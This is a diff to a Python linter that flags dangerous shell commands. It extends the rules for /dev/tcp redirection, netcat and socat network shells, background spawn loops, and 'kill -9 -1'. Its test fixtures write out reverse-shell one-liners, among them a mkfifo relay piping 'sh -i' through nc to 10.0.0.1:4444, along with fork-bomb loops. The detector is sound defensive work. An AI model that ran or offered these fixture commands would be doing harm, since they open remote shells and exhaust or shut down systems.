@@ -4,10 +4,10 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from .._analysis import CommandSubject, FunctionSubject, LoopSubject, RedirectSubject
+from .._analysis import CommandSubject, FunctionSubject, LoopSubject, RedirectSubject, StdinKind
 from .._model import Severity
 from .._policy import Tables
-from ._paths import has_short_flag
+from ._paths import has_short_flag, literal_prefix
 from ._rule import Hit, Inspects, rule
 
 _NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
@@ -27,16 +27,18 @@ _SOCAT_EXEC_ADDRESSES = ("exec:", "system:")
         "exec 3<>/dev/tcp/example.com/80",
         "cat < /dev/udp/10.0.0.1/53",
         "echo x > /dev/tcp/h/9",
+        'echo data > "/dev/tcp/$HOST/80"',
     ),
-    must_not_match=("ls /dev", "echo '/dev/tcp is a bash feature'", "echo x > dev/tcp.txt"),
+    must_not_match=("ls /dev", "echo '/dev/tcp is a bash feature'", "echo x > dev/tcp.txt", "echo x > \"$DEV/tcp\""),
 )
 def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hit]:
     target = subject.target
     if target is None:
         return
-    for value in target.values:
+    # The host may be a variable (`/dev/tcp/$HOST/80`); the literal prefix decides.
+    for value in target.values or (literal_prefix(target),):
         if value.startswith(("/dev/tcp/", "/dev/udp/")):
-            yield Hit(subject.span, f"network connection through `{value}`")
+            yield Hit(subject.span, f"network connection through `{target.display()}`")
             return
 
 
@@ -57,8 +59,15 @@ def dev_tcp_redirection(subject: RedirectSubject, tables: Tables) -> Iterator[Hi
         "socat tcp:10.0.0.1:4444 exec:/bin/sh",
         "socat TCP-LISTEN:4444,reuseaddr SYSTEM:bash",
         "ncat -lvp 4444 --sh-exec 'bash -i'",
+        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
     ),
-    must_not_match=("nc -zv example.com 80", "socat - TCP:example.com:80", "ncat -l 8080 > file", "mkfifo /tmp/pipe"),
+    must_not_match=(
+        "nc -zv example.com 80",
+        "socat - TCP:example.com:80",
+        "ncat -l 8080 > file",
+        "mkfifo /tmp/pipe",
+        "tar cz dir | nc host 9000",
+    ),
 )
 def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
     name = subject.name
@@ -66,6 +75,9 @@ def network_shell(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
     if name in _NETCATS:
         if has_short_flag(args, "ec", ("--exec", "--sh-exec", "--lua-exec")):
             yield Hit(subject.span, f"`{name}` runs a program connected to a socket")
+        elif _fed_by_interpreter(subject, tables):
+            # The fifo relay: `cat f | sh -i 2>&1 | nc HOST PORT > f`.
+            yield Hit(subject.span, f"a shell's output is sent through `{name}`")
     elif name == "socat":
         for arg in args:
             if any(value.lower().startswith(_SOCAT_EXEC_ADDRESSES) for value in arg.values):
@@ -96,7 +108,12 @@ def fork_bomb(subject: FunctionSubject, tables: Tables) -> Iterator[Hit]:
     rationale="`while :; do sh & done` fills the process table as fast as the kernel can fork.",
     safer_alternative="Bound the loop and wait for the background jobs (`wait`).",
     inspects=Inspects.LOOP,
-    must_match=("while :; do sh & done", "while true; do bash -c 'sleep 9' & done", "until false; do python3 x.py & done"),
+    must_match=(
+        "while :; do sh & done",
+        "while true; do bash -c 'sleep 9' & done",
+        "until false; do python3 x.py & done",
+        "while [ 1 ]; do sh & done",
+    ),
     must_not_match=("while :; do sleep 1; done", "while read l; do sh -c 'echo' & done < f", "for i in 1 2; do bash x & done"),
 )
 def background_spawn_loop(subject: LoopSubject, tables: Tables) -> Iterator[Hit]:
@@ -112,16 +129,25 @@ _POWER_UNITS = frozenset({"poweroff", "reboot", "halt", "kexec", "emergency", "r
 _POWER_RUNLEVELS = frozenset({"0", "1", "6"})
 
 
+def _fed_by_interpreter(subject: CommandSubject, tables: Tables) -> bool:
+    stdin = subject.stdin
+    return stdin is not None and stdin.kind is StdinKind.PIPE and any(tables.interpreter(name) for name in stdin.feeders)
+
+
 def _signal_all(subject: CommandSubject) -> bool:
     """`kill -9 -1` signals every process the user may signal; `kill -1 PID` is SIGHUP."""
     values = [arg.value for arg in subject.args]
+    signal: str | None = "TERM"
     if values[:1] in (["-s"], ["-n"]):
+        signal = values[1] if len(values) > 1 else None
         values = values[2:]
     elif values and values[0] is not None and values[0].startswith("-") and values[0] != "--":
+        signal = values[0][1:]
         values = values[1:]
     if values[:1] == ["--"]:
         values = values[1:]
-    return "-1" in values
+    # Signal 0 only asks whether the processes exist.
+    return "-1" in values and signal not in ("0", "SIG0")
 
 
 @rule(
@@ -134,7 +160,7 @@ def _signal_all(subject: CommandSubject) -> bool:
     inspects=Inspects.COMMAND,
     commands=_POWER_COMMANDS | {"init", "telinit", "systemctl", "kill", "killall5"},
     must_match=("shutdown -h now", "sudo reboot", "systemctl poweroff", "init 0", "kill -9 -1", "killall5 -9"),
-    must_not_match=("kill -9 12345", "kill %1", "systemctl restart nginx", "echo reboot", "kill -s TERM 42"),
+    must_not_match=("kill -9 12345", "kill %1", "systemctl restart nginx", "echo reboot", "kill -s TERM 42", "kill -0 -1"),
 )
 def shutdown_or_kill_everything(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
     name = subject.name
